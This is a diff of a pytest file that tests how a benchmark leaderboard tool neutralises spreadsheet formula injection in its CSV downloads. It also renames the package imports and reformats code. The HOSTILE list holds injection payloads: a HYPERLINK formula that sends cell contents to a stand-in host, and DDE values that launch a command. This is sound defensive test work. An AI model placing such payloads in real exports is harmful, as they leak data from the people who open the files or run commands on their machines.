@@ -13,12 +13,18 @@ import pandas as pd
 import pytest
 from click.testing import CliRunner
 
-from generator.cli import main
-from generator.release.csv_download import FORMULA_TRIGGERS, download_csv, neutralise_formulas
+from dualboard.cli import main
+from dualboard.release.csv_download import FORMULA_TRIGGERS, download_csv, neutralise_formulas
 from tests.conftest import TINY_QUESTIONS, tiny_metadata, write_run
 
-HOSTILE = ['=HYPERLINK("https://x.example/?"&A2,"ok")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
-           "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("https://x.example/?"&A2,"ok")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def read_back(text: str) -> pd.DataFrame:
@@ -45,11 +51,18 @@ def test_no_separator_or_line_break_inside_a_cell_starts_a_formula(value: str, s
 
 def test_only_text_columns_change() -> None:
     """Negative numbers of every numeric kind, booleans, dates and missing values are left alone."""
-    frame = pd.DataFrame({
-        "run_id": pd.Series(["-a", "b"], dtype="string"), "category": pd.Categorical(["@c", "@c"]),
-        "mixed": pd.Series([-1, "-1"], dtype=object), "diff": [-3.25, -1e-300], "rank": pd.array([-1, None], dtype="Int64"),
-        "n": [-5, 0], "significant": [True, False], "date": pd.to_datetime(["2026-01-02", "2026-01-03"]),
-    })
+    frame = pd.DataFrame(
+        {
+            "run_id": pd.Series(["-a", "b"], dtype="string"),
+            "category": pd.Categorical(["@c", "@c"]),
+            "mixed": pd.Series([-1, "-1"], dtype=object),
+            "diff": [-3.25, -1e-300],
+            "rank": pd.array([-1, None], dtype="Int64"),
+            "n": [-5, 0],
+            "significant": [True, False],
+            "date": pd.to_datetime(["2026-01-02", "2026-01-03"]),
+        }
+    )
     out = neutralise_formulas(frame)
     assert out["run_id"].tolist() == ["'-a", "b"] and out["category"].tolist() == ["'@c", "'@c"]
     assert out["mixed"].tolist() == [-1, "'-1"]
@@ -67,8 +80,13 @@ def hostile_release(tiny_root: Path) -> Path:
     bench.write_text("".join(json.dumps(q) + "\n" for q in questions), "utf-8")
     write_run(tiny_root, "run-a", metadata=tiny_metadata(model=HOSTILE[1]))
     write_run(tiny_root, "run-b", metadata=tiny_metadata(model=HOSTILE[3]))
-    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.invalid",
-           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.invalid"}
+    env = {
+        **os.environ,
+        "GIT_AUTHOR_NAME": "t",
+        "GIT_AUTHOR_EMAIL": "t@example.invalid",
+        "GIT_COMMITTER_NAME": "t",
+        "GIT_COMMITTER_EMAIL": "t@example.invalid",
+    }
     for args in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "board"]):
         subprocess.run(["git", "-C", str(tiny_root), *args], check=True, env=env, capture_output=True)
     for key in ("GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL"):
@@ -87,8 +105,10 @@ def test_release_and_site_csvs_are_neutralised_and_parquet_is_raw(hostile_releas
     assert set(scored_csv["model"]) == {"'" + HOSTILE[1], "'" + HOSTILE[3]}
     assert "'" + HOSTILE[0] in set(scored_csv["category"])
     assert pd.to_numeric(scored_csv["traditional"]).tolist() == scored["traditional"].tolist()
-    downloads = [release / "stats" / "tiny" / "models.csv",
-                 *hostile_release.glob("site/downloads/files/stats/tiny/models.csv")]  # carried by the release's site
+    downloads = [
+        release / "stats" / "tiny" / "models.csv",
+        *hostile_release.glob("site/downloads/files/stats/tiny/models.csv"),
+    ]  # carried by the release's site
     assert len(downloads) == 2, downloads
     for path in downloads:
         models = pd.read_csv(path)
